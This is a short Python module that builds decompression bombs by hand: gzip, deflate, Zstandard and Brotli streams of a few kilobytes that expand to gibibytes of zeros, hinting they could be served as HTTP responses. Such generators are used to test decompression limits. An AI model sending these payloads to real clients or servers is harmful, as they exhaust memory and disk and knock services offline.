"""Streams of a few kilobytes that unpack to a gibibyte of zeros, made without an encoder."""

import zlib

MIB = 1 << 20


def gzip_bomb(mib: int) -> bytes:
    """Give a sound gzip stream; every mebibyte of it is the same few bytes."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(MIB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(mib):
        check = zlib.crc32(bytes(MIB), check)
    tail = check.to_bytes(4, "little") + (mib * MIB % (1 << 32)).to_bytes(4, "little")
    return b"\x1f\x8b\x08" + bytes(6) + b"\xff" + block * mib + squeeze.flush() + tail


def deflate_bomb(mib: int) -> bytes:
    """Give the bare stream within it, as half the servers do that say `deflate`."""
    return gzip_bomb(mib)[10:-8]


def zstd_bomb(mib: int) -> bytes:
    """Give one Zstandard frame (RFC 8878, 3.1.1) of blocks that each repeat one byte."""
    # No checksum, no size; a window of 128 KiB: exponent 7, mantissa 0.
    head = b"\x28\xb5\x2f\xfd" + b"\x00" + bytes([7 << 3])
    repeat = (128 * 1024 << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    empty_last = (1).to_bytes(3, "little")
    return head + repeat * (8 * mib) + empty_last


def brotli_bomb(sixteen_mib: int) -> bytes:
    """Give a Brotli stream (RFC 7932, 9.2): prefix codes of one symbol cost no bits at all.

    Each metablock is one command that inserts 16 MiB of the only literal there is.
    """
    length = 1 << 24
    bits = [(0, 1)]  # a window of 16 bits
    for _ in range(sixteen_mib):
        bits += [
            *((0, 1), (2, 2), (length - 1, 24), (0, 1)),  # not the last; six nibbles; compressed
            *((0, 1), (0, 1), (0, 1)),  # one type of block each
            *((0, 2), (0, 4), (0, 2)),  # distances and the literals' context, as simple as can be
            *((0, 1), (0, 1)),  # one tree each
            *((1, 2), (0, 2), (0, 8)),  # the only literal is 0
            *((1, 2), (0, 2), (504, 10)),  # the only command: insert code 23, copy code 0
            *((1, 2), (0, 2), (0, 6)),  # the only distance
            (length - 22_594, 24),
        ]
    bits.append((3, 2))  # last and empty
    value = at = 0
    for number, width in bits:
        value |= number << at
        at += width
    return value.to_bytes((at + 7) // 8, "little")
